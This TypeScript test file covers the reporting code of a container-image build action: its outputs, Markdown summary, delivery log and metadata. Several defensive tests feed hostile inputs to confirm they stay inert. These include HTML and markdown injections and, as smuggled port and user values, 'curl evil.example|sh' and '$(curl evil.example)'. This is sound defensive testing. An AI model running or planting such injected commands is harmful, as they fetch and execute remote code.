import { expect, test } from 'vitest';
import { describeDelivered, describeImage } from '#actions/report/delivered.ts';
import { checksumsOf } from '#actions/report/metadata.ts';
import { outputsOf, type Result, type ResultSet } from '#actions/report/outputs.ts';
import { notKeptSummary, type SummaryFacts, summaryOf } from '#actions/report/summary.ts';
import { makeSet } from '#images/image/make-set.ts';
import type { Image, TaggedSet } from '#oci/image.ts';
import { makeImage, makeLayer, named, tagged } from '../../world/images.ts';

const LINES = { tags: '\n', labels: '\n', annotations: '\n' };

function aSet(set: TaggedSet, own: Partial<ResultSet> = {}): ResultSet {
  return { ...named(set, 'ghcr.io/o/app', 'x.example/app'), project: 'src/App.csproj', bases: [], ...own };
}

async function aResult(own: Partial<Result> = {}): Promise<Result> {
  const layers = [
    await makeLayer({ kind: 'base', files: { a: 'a' } }),
    await makeLayer({ kind: 'app', files: { b: 'b' } }),
  ];
  return {
    sets: [
      aSet(tagged(makeImage(layers), ['1.0', 'latest']), {
        bases: ['mcr.microsoft.com/dotnet/aspnet:10.0@sha256:2'],
      }),
    ],
    pushed: true,
    changed: true,
    version: '1.0',
    files: { checksums: '/t/subjects.sha256', report: '/t/report.json', page: '/t/report.html' },
    cache: 'hit',
    attached: [],
    sdkImage: 'mcr.microsoft.com/dotnet/sdk@sha256:1',
    ...own,
  };
}

function pageFor(facts: Pick<SummaryFacts, 'result' | 'choices' | 'delivered'> & Partial<SummaryFacts>): string {
  const quiet = { places: [], elapsed: 100, saved: 0, highlights: [], changes: [], phases: [], problems: [] };
  return summaryOf({ ...quiet, advisories: [], ...facts });
}

function onlyImage({ sets }: Result): Image {
  const image = sets[0]?.set.images[0];
  if (image === undefined) throw new Error('a result without an image');
  return image;
}

test('the outputs name the image by its digest, and every name with every tag', async () => {
  const result = await aResult();
  const image = onlyImage(result);
  const { digest } = image.manifest.descriptor;
  expect(outputsOf(result, LINES)).toMatchObject({
    image: `ghcr.io/o/app@${digest}`,
    digest,
    imageid: image.config.descriptor.digest,
    repository: 'ghcr.io/o/app',
    tags: 'ghcr.io/o/app:1.0\nghcr.io/o/app:latest\nx.example/app:1.0\nx.example/app:latest',
    pushed: 'true',
  });
});

test('an image without a name still has a digest', async () => {
  const { sets } = await aResult();
  const outputs = outputsOf(await aResult({ sets: sets.map((set) => ({ ...set, names: [] })), pushed: false }), LINES);
  expect(outputs).toMatchObject({ image: '', repository: '', tags: '', digest: expect.stringMatching(/^sha256:/) });
});

test('the summary shows the image, its layers and each choice with its reason', async () => {
  const result = await aResult();
  const choices = [{ what: 'tag', value: '1.0', because: 'the tag v1.0' }];
  const page = pageFor({ result, choices, delivered: [] });
  expect(page).toContain(`docker run --rm ${outputsOf(result, LINES).image}`);
  expect(page).toContain('| tag | `1.0` | the tag v1.0 |');
  expect(page).toMatch(/Base: 1 layers, .*\n\n```text\napp .*█/);
});

test('several images are drawn below their index, and listed in the outputs', async () => {
  const layers = [await makeLayer({ files: { b: 'b' } })];
  const images = ['amd64', 'arm64'].map((architecture) => makeImage(layers, { os: 'linux', architecture }));
  const bases = ['mcr.microsoft.com/dotnet/aspnet:10.0@sha256:2', 'mcr.microsoft.com/dotnet/aspnet:10.0@sha256:2'];
  const alone = tagged(makeImage(layers), ['1.0-alpine']);
  const result = await aResult({
    sets: [
      aSet({ set: makeSet(images), tags: ['1.0', 'latest'] }, { bases }),
      aSet(alone, { bases: ['mcr.microsoft.com/dotnet/aspnet:10.0-alpine@sha256:3'] }),
    ],
  });
  const outputs = outputsOf(result, LINES);
  expect(outputs.digest).toBe(result.sets[0]?.set.top.descriptor.digest);
  expect(outputs.imageid).toBe(outputs.digest);
  expect(outputs.tags.split('\n')).toHaveLength(6);
  const listed: readonly { readonly platform: string; readonly digest: string }[] = JSON.parse(outputs.results);
  expect(listed.map(({ platform }) => platform)).toEqual(['linux/amd64', 'linux/arm64', 'linux/amd64']);
  expect(listed[0]?.digest).toBe(outputs.digest);
  const lines = pageFor({ result, choices: [], delivered: [] }).split('\n');
  const at = lines.findIndex((line) => line.startsWith('1.0, latest  sha256:'));
  expect(lines[at + 1]).toMatch(/^├─ linux\/amd64 .* B {2}on mcr\.microsoft\.com\/dotnet\/aspnet:10\.0$/);
  expect(lines[at + 2]).toMatch(/^└─ linux\/arm64 /);
  expect(lines[at + 3]).toMatch(/^1\.0-alpine {2}sha256:/);
  expect(lines[at + 4]).toMatch(/^└─ linux\/amd64 .*aspnet:10\.0-alpine$/);
});

test('with several projects the outputs name the first, and list all by name', async () => {
  const setOf = async (name: string) => {
    const image = makeImage([await makeLayer({ files: { name } })]);
    return { ...named(tagged(image, ['1.0']), `ghcr.io/o/${name}`), project: `src/${name}.csproj`, bases: [''] };
  };
  const result = await aResult({ sets: [await setOf('web'), await setOf('orders')] });
  const outputs = outputsOf(result, LINES);
  expect(outputs.image).toBe(`ghcr.io/o/web@${result.sets[0]?.set.top.descriptor.digest}`);
  expect(outputs.tags).toBe('ghcr.io/o/web:1.0\nghcr.io/o/orders:1.0');
  const listed: readonly { readonly project: string }[] = JSON.parse(outputs.results);
  expect(listed.map(({ project }) => project)).toEqual(['src/web.csproj', 'src/orders.csproj']);
  const page = pageFor({ result, choices: [], delivered: [] });
  expect(page).toMatch(/^ghcr\.io\/o\/orders: 1\.0 {2}sha256:/m);
});

test('a branch name cannot write markup into the summary', async () => {
  const result = await aResult();
  const evil = '<img src=x onerror=1>|`[link](https://evil.example)\n# heading';
  const choices = [{ what: 'tag', value: evil, because: `the branch ${evil}` }];
  const page = pageFor({ result, choices, delivered: [] });
  const row = page.split('\n').find((line) => line.startsWith('| tag')) ?? '';
  expect(row.split(/(?<!\\)\|/)).toHaveLength(5);
  expect(row.split(/(?<!\\)\|/)[3]).not.toMatch(/[<[`]/);
  expect(page).not.toMatch(/^# heading/m);
});

test.each([
  ['a heading after a return', 'a\r\r# heading of anybody\r'],
  ['a fence', 'a\n```\n# heading\n```'],
  ['markup', '<h1>All checks passed</h1>'],
  ['an address', 'https://evil.example and http://evil.example and www.evil.example'],
  ['a mention and a number', '@team #12 GH-12 someone@evil.example'],
  ['a bar behind a backslash', 'a\\|b\\\\|c|d'],
  ['a link', '[report](javascript:x) ![x](y)'],
])('%s in a path, a choice or a reason stays text in its cell', async (_, evil) => {
  const result = await aResult();
  const choices = [{ what: `tests of ${evil}`, value: evil, because: evil }];
  const delivered = [{ target: evil, blobs: [], bytesSent: 0, because: evil }];
  const page = pageFor({ result, choices, delivered }) + notKeptSummary(choices);
  const quiet = pageFor({ result, choices: [{ what: 'a', value: 'b', because: 'c' }], delivered: [] });
  expect(page).not.toMatch(/\r|^# |^```$\n# /m);
  const rows = page.split('\n').filter((line) => line.startsWith('| tests of'));
  expect(rows).toHaveLength(2);
  for (const row of rows) {
    // Cells as GitHub parts them: a backslash escapes what follows it.
    expect(row.match(/(?:\\.|[^|\\])+/g)?.filter((cell) => cell !== '')).toHaveLength(3);
    const text = row.replace(/`[^`]*`/g, '');
    expect(text).not.toMatch(/[<[\]*_`]|:\/\/|www\.e|@\w|#\d[^;\d]|GH-\d/);
  }
  expect(quiet.split('\n').filter((line) => line.startsWith('```'))).toHaveLength(4);
});

test('ports and user of a base cannot become a command of a later step', async () => {
  const evil = ['8080:8080 x; curl evil.example|sh #\n```\n# Approved', '99999/tcp', '0/tcp', '8443/tcp'];
  const ports = Object.fromEntries(evil.map((port) => [port, {}]));
  const layers = [await makeLayer({ files: { b: 'b' } })];
  const own = { ExposedPorts: ports, User: 'x$(curl evil.example)' };
  const image = makeImage(layers);
  const config = { ...image.config, value: { ...image.config.value, config: own } };
  const result = await aResult({ sets: [aSet(tagged({ ...image, config }, ['1.0']))] });
  const outputs = outputsOf(result, LINES);
  expect(outputs).toMatchObject({ port: '8443', user: '' });
  const page = pageFor({ result, choices: [], delivered: [] });
  expect(page).toContain(`docker run --rm -p 8443:8443 ghcr.io/o/app@${outputs.digest}`);
  expect(page).not.toContain('evil');
});

test('the log has a line for each blob, with its result and the reason', async () => {
  const image = onlyImage(await aResult());
  const { digest, size } = image.config.descriptor;
  const blobs = [{ digest, size, kind: 'config', action: 'sent', because: 'it is new' }] as const;
  const lines = describeDelivered({ target: 'ghcr.io/o/app', blobs, bytesSent: size, because: 'new' });
  expect(lines[0]).toMatch(/^ghcr\.io\/o\/app: \d+ B sent, 1 sent, 0 mounted, 0 already there \(new\)$/);
  expect(lines[1]).toMatch(/sent +config +\d+ B +sha256:[0-9a-f]{12} +\(it is new\)/);
  expect(describeImage(image)).toMatch(
    /^Image sha256:[0-9a-f]{64} \(linux\/amd64\): \d+ B, 1 base layers and \d+ B in 1 application layers$/,
  );
});

test('the output metadata has the names that docker’s actions use', async () => {
  const result = await aResult();
  const image = onlyImage(result);
  const { mediaType, digest, size } = image.manifest.descriptor;
  const labels = image.config.value.config?.Labels;
  const outputs = outputsOf(result, { tags: ',', labels: ';', annotations: ';' });
  const tags = ['ghcr.io/o/app:1.0', 'ghcr.io/o/app:latest', 'x.example/app:1.0', 'x.example/app:latest'];
  expect(outputs.tags).toBe(tags.join(','));
  expect(outputs['tag-names']).toBe('1.0,latest');
  expect(JSON.parse(outputs.metadata)).toEqual({
    'containerimage.config.digest': image.config.descriptor.digest,
    'containerimage.descriptor': { mediaType, digest, size },
    'containerimage.digest': digest,
    'image.name': tags.join(','),
  });
  expect(JSON.parse(outputs.json)).toEqual({ tags, 'tag-names': ['1.0', 'latest'], labels, annotations: [] });
  expect(outputs).toMatchObject({ version: '1.0', changed: 'true', 'subject-checksums': '/t/subjects.sha256' });
});

test('the outputs name what the tags still point to', async () => {
  const kept = `sha256:${'a'.repeat(64)}` as const;
  const { sets } = await aResult();
  const result = await aResult({ sets: sets.map((set) => ({ ...set, tags: [], kept })), pushed: false });
  expect(outputsOf(result, LINES)).toMatchObject({ digest: kept, image: `ghcr.io/o/app@${kept}`, tags: '' });
});

test('subjects have the format of sha256sum, each once', () => {
  const digest = `sha256:${'b'.repeat(64)}` as const;
  const lines = checksumsOf([
    { name: 'ghcr.io/o/app', digest },
    { name: 'ghcr.io/o/app', digest },
  ]);
  expect(lines).toBe(`${'b'.repeat(64)}  ghcr.io/o/app\n`);
});
